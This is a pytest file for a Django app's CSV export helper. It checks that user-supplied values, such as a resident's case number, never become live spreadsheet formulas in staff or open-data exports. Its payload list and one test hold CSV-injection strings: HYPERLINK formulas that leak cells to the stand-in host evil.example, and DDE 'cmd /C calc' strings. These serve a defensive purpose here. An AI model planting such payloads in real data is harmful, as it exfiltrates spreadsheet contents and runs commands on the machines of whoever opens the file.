"""Every CSV export goes through jcr.core.exports, and no exported cell starts a formula in a
spreadsheet, whoever typed it (a resident's public form included)."""

from __future__ import annotations

import csv
import io
import time
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse
from django.utils import timezone

from jcr.accounts.tests.factories import StaffFactory
from jcr.core.abuse import form_timestamp
from jcr.core.exports import FORMULA_STARTS, csv_cell, csv_export, csv_lines
from jcr.core.models import AuditEntry

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '  =HYPERLINK("https://evil.example")',  # spreadsheets skip the leading spaces
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals
]


def _is_formula(cell: str) -> bool:
    return cell.startswith(("\t", "\r")) or cell.lstrip()[:1] in FORMULA_STARTS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_exports_csv_cell_defuses_formulas(payload):
    cell = csv_cell(payload)
    assert cell == "'" + payload
    assert not _is_formula(cell)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, ""),
        (True, "true"),
        (-3, -3),  # a negative number is data, not a formula
        (Decimal("-1.50"), Decimal("-1.50")),
        ("Ana = Bob", "Ana = Bob"),
        ("98F01234", "98F01234"),
    ],
)
def test_exports_csv_cell_keeps_ordinary_values(value, expected):
    assert csv_cell(value) == expected


def test_exports_csv_lines_guard_every_row_and_the_header():
    text = "".join(csv_lines(["=header"], [["=A1", 2], ["ok", None]]))
    assert list(csv.reader(io.StringIO(text))) == [["'=header"], ["'=A1", "2"], ["ok", ""]]


def test_exports_no_csv_writer_outside_the_helper():
    """One helper: no module of the project writes CSV by itself."""
    root = Path(settings.BASE_DIR)
    offenders = []
    for package in ("jcr", "outreach", "prosecution", "govrelations", "integrity"):
        for path in (root / package).rglob("*.py"):
            if "tests" in path.parts or "migrations" in path.parts or path.name == "exports.py":
                continue
            text = path.read_text()
            if "csv.writer" in text or "csv.DictWriter" in text:
                offenders.append(str(path.relative_to(root)))
    assert offenders == []


# --- Every export route ----------------------------------------------------------------------


def _signed_in(client_for, user):
    """A client with a fresh authentication (confidential exports ask for a recent one)."""
    client = client_for(user)
    session = client.session
    session["account_authentication_methods"] = [{"method": "password", "at": time.time()}]
    session["account_authentication_methods_user"] = str(user.pk)
    session.save()
    return client


def _event_registrations(request, payload):
    from outreach.events.tests.factories import EventFactory, RegistrationFactory

    event = EventFactory()
    RegistrationFactory(event=event, name=payload, accessibility_needs=payload)
    client = request.getfixturevalue("client_for")(request.getfixturevalue("outreach_supervisor"))
    return client, reverse("outreach:staff_event_export", kwargs={"public_id": event.public_id}), {"confirm": "yes"}


def _dialogue_participants(request, payload):
    from jcr.core.tests.factories import AreaFactory
    from outreach.dialogues import services
    from outreach.dialogues.models import DialogueSeries, ParticipantGroup
    from outreach.dialogues.tests.factories import (
        DialogueApplicationFactory,
        DialogueSeatsFactory,
        DialogueSessionFactory,
    )

    district = AreaFactory(lon=-121.5, lat=38.5, slug="d1-natomas", name="Natomas")
    session = DialogueSessionFactory(district=district, series__slug="nest")
    DialogueSeatsFactory(session=session, group=ParticipantGroup.COMMUNITY, seats=2)
    DialogueApplicationFactory(session=session, name=payload)
    DialogueSeries.objects.filter(pk=session.series.pk).update(
        applications_open_at=timezone.now() - timedelta(days=10),
        applications_close_at=timezone.now() - timedelta(minutes=1),
    )
    services.dialogue_draw_run(series=DialogueSeries.objects.get(pk=session.series.pk))
    client = request.getfixturevalue("client_for")(request.getfixturevalue("outreach_staff"))
    return client, reverse("outreach:staff_dialogue_export", kwargs={"slug": "nest"}), {"confirm": "nest"}


def _social_records(request, payload):
    from outreach.social.models import Delivery
    from outreach.social.tests import factories as f

    author, approver = request.getfixturevalue("outreach_staff"), request.getfixturevalue("outreach_supervisor")
    post = f.scheduled_post(author, approver, [f.channel("mastodon")], body=payload)
    post.deliveries.update(
        status=Delivery.Status.PUBLISHED, published_at=timezone.now(), remote_id=payload, remote_url=payload
    )
    client = request.getfixturevalue("client_for")(approver)
    return client, reverse("outreach:staff_social_records_export"), {"confirm": "yes"}


def _allegations(request, payload):
    from integrity.records.tests import factories as f

    f.allegation(case_number=payload)
    client = _signed_in(request.getfixturevalue("client_for"), request.getfixturevalue("jti_chief"))
    return client, reverse("integrity:allegation_export"), {"reason": "Annual report to the board"}


def _claims(request, payload):
    from integrity.records.tests import factories as f

    f.claim(case_number=payload)
    client = _signed_in(request.getfixturevalue("client_for"), request.getfixturevalue("jti_chief"))
    return client, reverse("integrity:claim_export"), {"reason": "Report to the review panel"}


EXPORTS = {
    "event_registrations": _event_registrations,
    "dialogue_participants": _dialogue_participants,
    "social_records": _social_records,
    "allegations": _allegations,
    "claims": _claims,
}


@pytest.mark.parametrize("route", EXPORTS)
def test_exports_no_cell_starts_a_formula(request, route):
    payload = PAYLOADS[4]  # leading spaces, then a formula
    client, url, data = EXPORTS[route](request, payload)
    response = client.post(url, data)
    assert response.status_code == 200, route
    assert response["Content-Type"].startswith("text/csv")
    assert response["Cache-Control"] == "no-store"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + payload in cells, route  # the row is there, defused
    assert [c for c in cells if _is_formula(c)] == []


def test_exports_public_case_number_is_never_a_formula_in_the_chiefs_exports(client, client_for, jti_chief):
    """A resident types a formula as the case number of an allegation and of a claim; the JTI
    Chief's exports show it as text."""
    formula = '=HYPERLINK("https://evil.example/?c="&B2,"Open case")'
    allegation = {
        "description": "The prosecutor hid a witness statement.",
        "subject": "Deputy DA Example",
        "case_number": formula,
        "name": "",
        "email": "",
        "phone": "",
        "language": "en",
        "form_ts": form_timestamp(scope="misconduct_submit", seconds_ago=60),
    }
    assert client.post(reverse("integrity:allegation_report"), allegation).status_code == 302
    claim = {
        "writer": "self",
        "claimant_name": "Alex Roe",
        "case_number": f" {formula}",
        "conviction_year": "1999",
        "summary": "DNA on the weapon was never tested.",
        "contact": "CDCR #A12345, Folsom",
        "email": "family@example.org",
        "consent_records": "on",
        "language": "en",
        "form_ts": form_timestamp(scope="claim_submit", seconds_ago=60),
    }
    assert client.post(reverse("integrity:claim_submit"), claim).status_code == 302
    chief = _signed_in(client_for, jti_chief)
    for name, reason in (("allegation_export", "Annual report"), ("claim_export", "Review panel report")):
        response = chief.post(reverse(f"integrity:{name}"), {"reason": reason})
        assert response["Content-Type"].startswith("text/csv"), name
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        assert [row["case_number"] for row in rows] == ["'" + formula], name


@pytest.mark.parametrize("dataset", ["concerns", "figures"])
def test_exports_open_data_csv_never_starts_a_formula(client, dataset):
    """The public open data is written by the same helper: a category code may start with "-"."""
    from prosecution.concerns.tests.factories import CategoryFactory, ConcernFactory
    from prosecution.transparency import services as transparency

    category = CategoryFactory(code="-dumping", is_sensitive=False)
    ConcernFactory(category=category)
    transparency.concern_stats_rebuild(now=timezone.now())
    response = client.get(f"/community-prosecution/open-data/{dataset}.csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(body.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'-dumping" in cells
    assert [c for c in cells if _is_formula(c) and not _is_number(c)] == []


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_exports_csv_export_records_who_what_how_many_and_why_never_the_values():
    actor = StaffFactory()
    response = csv_export(
        actor=actor,
        action="core.area.export",
        object_type="core.area",
        filename="areas.csv",
        header=["name"],
        rows=(["=SUM(A1)"], ["Natomas"]),
        reason="Quarterly report",
    )
    assert response["Content-Disposition"] == 'attachment; filename="areas.csv"'
    assert response.content.decode() == "name\n'=SUM(A1)\nNatomas\n"
    entry = AuditEntry.objects.get(action="core.area.export")
    assert (entry.actor_id, entry.object_type, entry.after) == (
        actor.pk,
        "core.area",
        {"rows": 2, "reason": "Quarterly report"},
    )
